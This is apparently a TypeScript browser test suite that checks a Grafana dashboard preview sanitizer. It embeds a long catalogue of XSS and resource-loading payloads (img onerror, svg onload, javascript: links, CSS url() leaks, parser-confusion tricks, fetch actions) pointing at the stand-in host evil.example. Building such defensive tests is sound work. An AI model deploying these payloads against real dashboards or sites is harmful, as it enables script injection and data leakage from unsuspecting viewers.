import { readFileSync } from "node:fs";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { readDashboard } from "../../src/dashboard/read/read.ts";
import { rewriteForPreview } from "../../src/dashboard/rewrite/rewrite.ts";
import { defined } from "../../src/json/defined.ts";
import { classic, v2, v2Element } from "../dashboards/source.ts";
import { type Browser, startBrowser } from "./browser.ts";

// biome-ignore lint/suspicious/noExplicitAny: JSON that the tests look into
type Json = any;

const folder = import.meta.dirname;
const marked = readFileSync(`${folder}/../../node_modules/marked/lib/marked.umd.js`, "utf8");
const grafana = readFileSync(`${folder}/grafana-page.js`, "utf8");
const prometheus = { type: "prometheus", uid: "p" };
const evil = "http://evil.example";

/** Variables of the dashboard, with the values that the attack gives them. */
const values: { readonly [name: string]: string } = {
  br: "[x]",
  open: "![x](",
  md: `![x](${evil}/v-md)`,
  htm: `<img src="${evil}/v-htm" onerror="ran.push('v-htm')">`,
  url: `${evil}/v-url`,
  host: "evil.example",
  scheme: "http://",
  lt: "<",
  tag: "img src",
  bang: "!",
  sq: "[x](",
  slash: "/",
  css: `url(${evil}/v-css)`,
  js: "javascript:ran.push('v-js')",
  quote: '"',
  img: "image",
  job: "a",
  "__user.login": "victim",
};
/** What the data of the panels hold: labels of the dashboard's own data spec. */
const data = {
  url: `${evil}/data-url`,
  html: `<img src="${evil}/data-html" onerror="ran.push('data-html')">`,
  style: `url(${evil}/data-style)`,
};

/**
 * `URL` becomes an address of its own for each place; the page asks for each of them at least once, when nothing is
 * done about it.
 */
const loading: readonly string[] = [
  // As the issue has them: a picture once variables are filled in.
  "!$br(http://URL)",
  "![[br]](http://URL)",
  "!${br}(http://URL)",
  "!${br:raw}(http://URL)",
  "$md",
  "[[md]]",
  "${md:raw}",
  "${htm:raw}",
  "[[htm:raw]]",
  "${open}http://URL)",
  "${bang}[x](http://URL)",
  "!${sq}http://URL)",
  "![x]($url)",
  "![x](${scheme}URL)",
  "![x](http:/${slash}URL)",
  "![a][b]\n\n[b]: $url",
  "![a][b]\n\n[b]: http://URL",
  "${lt}img src=http://URL>",
  "<$tag=http://URL>",
  '<img alt="$quote src=http://URL ">',
  '<b style="background:$css">x</b>',
  "&#36;md &#36;{htm:raw} &dollar;md &lbrack;&lbrack;md&rbrack;&rbrack;",
  "`$md` and\n\n    $md\n\n```\n${htm:raw}\n```",
  "<b>$</b>md $<i></i>md [<b></b>[md]]",
  "$\u0000md $\u200bmd ＄md",
  // Pictures, frames, styles, scripts.
  "![x](http://URL)",
  "![x](//URL)",
  "![x](</\\URL>)",
  "<img src=http://URL>",
  "<img src='//URL'>",
  "<IMG SRC=http:/\\URL>",
  "<img srcset='http://URL 1x'>",
  "<image src=http://URL>",
  "<picture><source srcset=http://URL><img></picture>",
  "<svg><image href=http://URL /></svg>",
  "<svg><style>@import 'http://URL';</style></svg>",
  "<svg onload=ran.push('svg')>",
  "<video poster=http://URL src=http://URL></video>",
  "<audio src=http://URL autoplay></audio>",
  "<iframe src=http://URL></iframe>",
  "<iframe srcdoc='<img src=http://URL>'></iframe>",
  "<object data=http://URL></object>",
  "<embed src=http://URL>",
  "<link rel=stylesheet href=http://URL>",
  "<link rel=preload as=image href=http://URL>",
  "<style>@import url(http://URL);</style>",
  "<style>body{background:url(http://URL)}</style>",
  "<p style='background:url(http://URL)'>x</p>",
  "<table background=http://URL><td background=http://URL>x</table>",
  "<input type=image src=http://URL>",
  "<script>ran.push('script')</script>",
  "<script src=http://URL></script>",
  "<img src=x onerror=\"ran.push('onerror')\">",
  "<details open ontoggle=ran.push('toggle')>x</details>",
  "<input autofocus onfocus=ran.push('focus')>",
  "<b tabindex=1 onfocus=ran.push('focus')>x</b>",
  "<noscript><p title='</noscript><img src=http://URL>'></noscript>",
  "<textarea><p title='</textarea><img src=http://URL>'></textarea>",
  "<!--><img src=http://URL>-->",
  "<!-- --!><img src=http://URL> -->",
  "<![CDATA[><img src=http://URL>]]>",
  "<<img src=http://URL>img src=http://URL>",
  "<a href='#'><img src=http://URL></a>",
  "<pre>\n\n<img src=http://URL>\n\n![x](http://URL)</pre>",
  "| a |\n|---|\n| ![x](http://URL) |",
  "> - 1. ![x](http://URL)",
  "# ![x](http://URL)\n===",
  "[![x](http://URL)](http://URL)",
  "<base href=http://URL/><img src=relative>",
  // Links out.
  "[x](javascript:ran.push('link')) <a href=\"javascript:ran.push('link')\">x</a> [x]($js)",
];

/**
 * What loads nothing as it stands, and would if it were taken apart once too often, or leads out when it is clicked.
 */
const traps: readonly string[] = [
  "\\!\\[x\\]\\(http://URL\\)\n\n!\\[x](http://URL)\n\n\\$md \\${htm:raw}",
  "<im$htm:g src=http://URL>",
  "&lt;img src=http://URL&gt;",
  "<math><mtext><table><mglyph><style><img src=http://URL>",
  "<pre>\n\n&lt;img src=http://URL&gt;\n\n!&#91;x](http://URL)</pre>",
  "[x](http://URL) <http://URL> http://URL www.evil.example mail@evil.example",
  "[x](/d/a?b=${url}) [x](//URL) [x](/\\URL) [x](/d/../../logout) [x](/logout)",
];
const payloads = [...loading, ...traps];

function fillIn(payload: string, id: string): string {
  return payload.replaceAll("URL", `evil.example/${id}`);
}

/** Every payload in every text that Grafana renders. */
function classicAttack(payload: string, index: number): Json[] {
  const at = (place: string) => fillIn(payload, `p${index}-${place}`);
  const shared = { datasource: prometheus, targets: [{ refId: "A", expr: "up" }] };
  return [
    ...(["markdown", "html", "code"] as const).map((mode) => ({
      title: mode,
      type: "text",
      options: { mode, content: at(mode) },
    })),
    { title: "old", type: "text", mode: "html", content: at("old") },
    { title: "language", type: "text", options: { mode: "code", content: at("code"), code: { language: "json" } } },
    {
      ...shared,
      title: at("title"),
      type: "timeseries",
      description: at("description"),
      fieldConfig: { defaults: { displayName: at("name"), description: at("field") }, overrides: [] },
    },
    {
      ...shared,
      title: "odd",
      type: "stat",
      content: at("odd"),
      options: { content: at("odd"), mode: "markdown", html: at("odd") },
    },
  ];
}

const others: Json[] = [
  { type: "table", fieldConfig: { defaults: { custom: { cellOptions: { type: "image" } } }, overrides: [] } },
  { type: "table", fieldConfig: { defaults: { custom: { cellOptions: { type: "markdown" } } }, overrides: [] } },
  { type: "table", fieldConfig: { defaults: { custom: { displayMode: "image" } }, overrides: [] } },
  {
    type: "table",
    fieldConfig: {
      defaults: {},
      overrides: [
        {
          matcher: { id: "byName", options: "x" },
          properties: [{ id: "custom.cellOptions", value: { type: "image" } }],
        },
      ],
    },
  },
  {
    type: "table",
    fieldConfig: {
      defaults: {},
      overrides: [
        { matcher: { id: "byName", options: "x" }, properties: [{ id: "custom.displayMode", value: "markdown" }] },
      ],
    },
  },
  { type: "table", fieldConfig: { defaults: { custom: { styleField: "css" } }, overrides: [] } },
  {
    type: "table",
    fieldConfig: {
      defaults: {},
      overrides: [{ matcher: { id: "byName", options: "x" }, properties: [{ id: "custom.styleField", value: "css" }] }],
    },
  },
  {
    type: "timeseries",
    transformations: [{ id: "configFromData", options: { mappings: [{ fieldName: "c", handlerKey: "color" }] } }],
  },
  {
    type: "timeseries",
    transformations: [
      { id: "rowsToFields", options: {} },
      { id: "fieldLookup", options: { gazetteer: `${evil}/o-gazetteer` } },
      { id: "spatial", options: {} },
    ],
  },
  {
    type: "stat",
    fieldConfig: { defaults: { color: { mode: "fixed", fixedColor: `url(${evil}/o-fixed)` } }, overrides: [] },
  },
  {
    type: "stat",
    fieldConfig: { defaults: { color: { fixedColor: `red;background:url("${evil}/o-rgb") rgb(` } }, overrides: [] },
  },
  {
    type: "stat",
    fieldConfig: { defaults: { color: { fixedColor: `image-set("${evil}/o-set" 1x)` } }, overrides: [] },
  },
  { type: "stat", fieldConfig: { defaults: { color: { fixedColor: `u\\72l(${evil}/o-escape)` } }, overrides: [] } },
  {
    type: "stat",
    fieldConfig: {
      defaults: {
        thresholds: { steps: [{ color: `url(${evil}/o-step)`, value: null }] },
        mappings: [{ type: "value", options: { 1: { text: "x", color: `url(//evil.example/o-mapping)` } } }],
      },
      overrides: [],
    },
  },
  {
    type: "stat",
    fieldConfig: {
      defaults: {},
      overrides: [
        {
          matcher: {},
          properties: [
            { id: "color", value: { fixedColor: `url(${evil}/o-override)` } },
            { id: "custom.lineColor", value: `url(${evil}/o-line)` },
          ],
        },
      ],
    },
  },
  {
    type: "graph",
    aliasColors: { a: `url(${evil}/o-alias)` },
    seriesOverrides: [{ alias: "a", color: `url(${evil}/o-series)` }],
    colors: [`url(${evil}/o-colors)`],
  },
  {
    type: "stat",
    options: {
      background: `url(${evil}/o-background)`,
      picture: `${evil}/o-picture`,
      icon: `${evil}/o-icon`,
      image: "$url",
      href: "$js",
    },
  },
  {
    type: "stat",
    links: [
      { title: "x", url: evil },
      { title: "x", url: "${url}" },
      { title: "x", url: "/${host}" },
      { title: "x", url: "$js" },
      { title: "in", url: "/d/x?var-a=$url&b=1" },
    ],
  },
  {
    type: "stat",
    fieldConfig: {
      defaults: {
        links: [{ url: `${evil}/x` }, { url: "$url" }, { title: "$md", url: "/d/x?a=${__value.raw}" }],
        actions: [{ type: "fetch", fetch: { url: `${evil}/o-action`, method: "POST" } }],
      },
      overrides: [
        {
          matcher: {},
          properties: [
            { id: "links", value: [{ url: "$js" }] },
            { id: "actions", value: [{ type: "fetch", fetch: { url: `${evil}/o-action2` } }] },
          ],
        },
      ],
    },
  },
  { type: "news", options: { feedUrl: `${evil}/o-news` } },
  {
    type: "canvas",
    options: {
      root: {
        elements: [{ config: { path: { fixed: `${evil}/o-canvas` } }, background: { image: { fixed: "$url" } } }],
      },
    },
  },
  { type: "geomap", options: { basemap: { type: "xyz", config: { url: `${evil}/o-map/{x}` } } } },
  { type: "some-plugin", options: { html: `<img src=${evil}/o-plugin>`, url: `${evil}/o-plugin2` } },
].map((panel) => ({ title: "other", datasource: prometheus, targets: [{ refId: "A", expr: "up" }], ...panel }));

const top = {
  description: `![x](${evil}/t-description) $md`,
  links: [
    { type: "link", title: "$md", url: `${evil}/x`, tooltip: "$md" },
    {
      type: "link",
      title: "in",
      url: "/d/x?y=$url",
      tooltip: `![x](${evil}/t-tooltip) $md \${htm:raw}`,
      icon: `${evil}/t-icon`,
    },
    { type: "dashboards", title: "$md", tags: ["$md"], tooltip: "${htm:raw}", url: `${evil}/t-list` },
  ],
};
const formats = {
  titleFormat: `<img src=${evil}/a-title>{{x}}`,
  textFormat: `$md \${htm:raw} <img src=${evil}/a-text> {{x}}`,
  iconColor: `url(${evil}/a-colour)`,
};

function classicDashboard(): ReturnType<typeof readDashboard> {
  const panels = [...payloads.flatMap(classicAttack), ...others].map((panel, id) => ({ id, ...panel }));
  return classic(panels, {
    ...top,
    annotations: {
      list: [
        { name: "n", datasource: prometheus, enable: true, expr: "up", ...formats, tagKeys: "x" },
        {
          name: "g",
          datasource: { type: "grafana", uid: "-- Grafana --" },
          enable: true,
          ...formats,
          mappings: { text: { source: "field", value: "$md" } },
        },
      ],
    },
    templating: {
      list: Object.keys(values)
        .filter((name) => /^\w+$/.test(name))
        .map((name) => ({ name, type: "textbox", query: values[name], description: `![x](${evil}/d-variable) $md` })),
    },
  });
}

function v2Dashboard(): ReturnType<typeof readDashboard> {
  const texts = payloads.flatMap((payload, index) =>
    (["markdown", "html", "code"] as const).map((mode) => {
      const element = v2Element(index, "x", []) as Json;
      element.spec.description = fillIn(payload, `p${index}-description`);
      element.spec.vizConfig.group = "text";
      element.spec.vizConfig.spec.options = { mode, content: fillIn(payload, `p${index}-${mode}`) };
      return element;
    }),
  );
  const more = others.map(({ type, options, fieldConfig, links, transformations }, index) => {
    const element = v2Element(1000 + index, "x", [{ expr: "up" }]) as Json;
    Object.assign(element.spec, defined({ links }));
    element.spec.data.spec.transformations = (transformations ?? []).map(({ id, options: inner }: Json) => ({
      kind: id,
      spec: { id, options: inner },
    }));
    element.spec.vizConfig = {
      kind: "VizConfig",
      group: type,
      version: "",
      spec: { options: options ?? {}, fieldConfig: fieldConfig ?? { defaults: {}, overrides: [] } },
    };
    return element;
  });
  const elements = Object.fromEntries([...texts, ...more].map((element, index) => [`e${index}`, element]));
  const query = {
    kind: "DataQuery",
    group: "prometheus",
    version: "v0",
    datasource: { name: "p" },
    spec: { expr: "up" },
  };
  return v2(elements, {
    ...top,
    annotations: [
      {
        kind: "AnnotationQuery",
        spec: {
          name: "n",
          enable: true,
          query,
          legacyOptions: formats,
          mappings: { text: { value: "$md" } },
          iconColor: formats.iconColor,
        },
      },
    ],
    variables: [
      { kind: "TextVariable", spec: { name: "md", query: values["md"], description: `![x](${evil}/d-variable)` } },
    ],
  });
}

let browser: Browser;
beforeAll(async () => {
  browser = await startBrowser();
});
afterAll(() => browser?.close());

/** Opens a dashboard as Grafana would. */
async function open(model: unknown) {
  const json = (value: unknown) => JSON.stringify(value).replaceAll("<", "\\u003c");
  const parts = [
    `window.ran = []; onerror = (message, _file, line) => { window.report = { error: message + " " + line, ran: [], outside: [], text: "", tags: [] }; }; const model = ${json(model)}; const values = ${json(values)}; const data = ${json(data)};`,
    marked,
    grafana,
  ];
  const { requests, connections, report } = await browser.visit(
    `<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,"><body>${parts.map((part) => `<script>${part.replaceAll("</script", "<\\/script")}</script>`).join("")}</body>`,
  );
  return {
    requests,
    connections,
    report: report as { error?: string; ran: string[]; outside: string[]; text: string; tags: string[] },
  };
}

const dashboards = [
  ["classic", classicDashboard],
  ["schema v2", v2Dashboard],
] as const;

test.for(dashboards)(
  "a %s dashboard that is not trusted makes no request in a browser, runs no script and leads nowhere else",
  async ([, make]) => {
    const options = {
      uid: "u",
      key: "pr-1",
      dataSource: { type: "prometheus", uid: "preview", name: "P" },
      untrusted: true,
    };
    const { model } = rewriteForPreview(make(), options);
    const { requests, connections, report } = await open(model);
    const nothing = { requests: [], connections: [], ran: [], outside: [], error: undefined };
    expect({
      requests: requests.slice(1),
      connections,
      ran: report.ran,
      outside: report.outside,
      error: report.error,
    }).toEqual(nothing);
    expect(requests[0]).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);
    // It still shows its texts.
    expect(report.text).toContain("Not previewed");
    expect(report.text).toContain("$md");
    expect(report.tags).toContain("P");
  },
);

test.for(dashboards)(
  "a %s dashboard as it was sent in makes requests from every payload, so that the page is no stricter than Grafana",
  async ([, make]) => {
    const { requests, connections, report } = await open(make().model);
    const fired = (index: number) => requests.some((url) => url.includes(`evil.example/p${index}-`));
    expect(loading.filter((payload, index) => payload.includes("URL") && !fired(index))).toEqual([]);
    const others = [
      "v-md",
      "v-htm",
      "v-url",
      "data-html",
      "data-style",
      "data-url",
      "t-description",
      "a-title",
      "a-text",
      "o-fixed",
      "o-step",
    ];
    expect(others.filter((name) => !requests.includes(`${evil}/${name}`))).toEqual([]);
    expect(connections.length).toBeGreaterThan(10);
    expect(report).toMatchObject({
      ran: expect.arrayContaining(["script", "onerror", "svg", "v-htm"]),
      outside: expect.arrayContaining([`${evil}/v-url`]),
    });
    expect(report.error).toBeUndefined();
  },
);
